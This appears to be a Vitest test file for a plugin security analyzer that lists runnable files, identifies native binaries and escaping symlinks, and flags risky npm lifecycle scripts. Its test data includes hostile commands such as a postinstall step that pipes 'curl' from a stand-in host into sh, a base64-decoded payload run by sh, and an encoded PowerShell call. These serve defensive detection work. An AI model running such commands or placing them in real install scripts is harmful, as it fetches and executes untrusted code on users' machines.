import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatOfHead, listFiles } from '../../analyzer/files.js';
import { installScriptReports, isDangerousScript } from '../../analyzer/install-scripts.js';
import { MANIFEST, NATIVE_HEADS, writePlugin } from './helpers.js';

describe('listFiles', () => {
  it('finds every runnable file, bundled node_modules included, with its source type', async () => {
    const root = writePlugin({
      'package.json': MANIFEST,
      'index.js': '',
      'lib/a.mjs': '',
      'lib/b.cjs': '',
      'lib/c.ts': '',
      'lib/d.cts': '',
      'lib/e.mts': '',
      'lib/f.tsx': '',
      'lib/g.jsx': '',
      'README.md': '# not code',
      'node_modules/esm-dep/package.json': { name: 'esm-dep', type: 'module' },
      'node_modules/esm-dep/index.js': '',
      'node_modules/@scope/cjs-dep/package.json': { name: '@scope/cjs-dep' },
      'node_modules/@scope/cjs-dep/index.js': '',
    });
    const files = await listFiles(root);
    expect(Object.fromEntries(files.sources.map((file) => [file.path, file.sourceType]))).toEqual({
      'index.js': 'commonjs',
      'lib/a.mjs': 'module',
      'lib/b.cjs': 'commonjs',
      'lib/c.ts': 'module',
      'lib/d.cts': 'commonjs',
      'lib/e.mts': 'module',
      'lib/f.tsx': 'module',
      'lib/g.jsx': 'commonjs',
      'node_modules/@scope/cjs-dep/index.js': 'commonjs',
      'node_modules/esm-dep/index.js': 'module',
    });
    expect(files.packageManifests).toEqual(['node_modules/@scope/cjs-dep/package.json', 'node_modules/esm-dep/package.json', 'package.json']);
  });

  it('recognises native binaries by magic bytes and .node by name, not look-alikes', async () => {
    const javaClass = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]);
    const root = writePlugin({
      'package.json': MANIFEST,
      'bin/tool': NATIVE_HEADS.elf,
      'bin/tool-mac': NATIVE_HEADS.machO,
      'bin/tool-universal': NATIVE_HEADS.fatMachO,
      'bin/tool.dat': NATIVE_HEADS.pe,
      'build/addon.node': 'whatever is inside',
      'assets/Main.class': javaClass,
      'assets/notes.txt': 'MZ is how this text starts, but it is not a PE image',
      'node_modules/dep/binding.gyp': '{}',
      'node_modules/dep/package.json': { name: 'dep' },
    });
    const files = await listFiles(root);
    expect(files.natives).toEqual([
      { path: 'bin/tool', format: 'ELF' },
      { path: 'bin/tool-mac', format: 'Mach-O' },
      { path: 'bin/tool-universal', format: 'Mach-O universal' },
      { path: 'bin/tool.dat', format: 'PE' },
      { path: 'build/addon.node', format: 'Node addon' },
    ]);
    expect(files.gypPackages).toEqual(['node_modules/dep/binding.gyp']);
    expect(formatOfHead(javaClass)).toBeUndefined();
  });

  it('follows symlinks inside the root, records the ones that leave it, and survives loops', async () => {
    const root = writePlugin({ 'package.json': MANIFEST, 'src/index.js': '' });
    symlinkSync('src', join(root, 'alias'));
    symlinkSync('..', join(root, 'src/loop'));
    symlinkSync('/etc', join(root, 'etc'));
    const files = await listFiles(root);
    expect(files.sources.map((file) => file.path)).toEqual(['alias/index.js']);
    expect(files.escapingLinks).toEqual(['etc']);
  });
});

describe('install scripts', () => {
  it('reports each lifecycle script at its key, critical when it fetches or evaluates code', () => {
    const text = JSON.stringify({ scripts: { test: 'vitest', prepare: 'tsc', postinstall: 'curl -s https://x.example/i | sh' } }, null, 2);
    const reports = installScriptReports(text);
    expect(reports.map((report) => [report.data.script, report.kind.severity, report.loc.line])).toEqual([
      ['postinstall', 'critical', 5],
      ['prepare', 'high', 4],
    ]);
  });

  it.each(['node -e "require(1)"', 'wget http://x/y', 'echo aGk= | base64 -d | sh', 'bash -c "$(cat x)"', 'powershell -enc AAA'])('calls %s dangerous', (command) => {
    expect(isDangerousScript(command)).toBe(true);
  });

  it.each(['node-gyp rebuild', 'tsc -p .', 'husky install'])('calls %s an ordinary script', (command) => {
    expect(isDangerousScript(command)).toBe(false);
  });
});
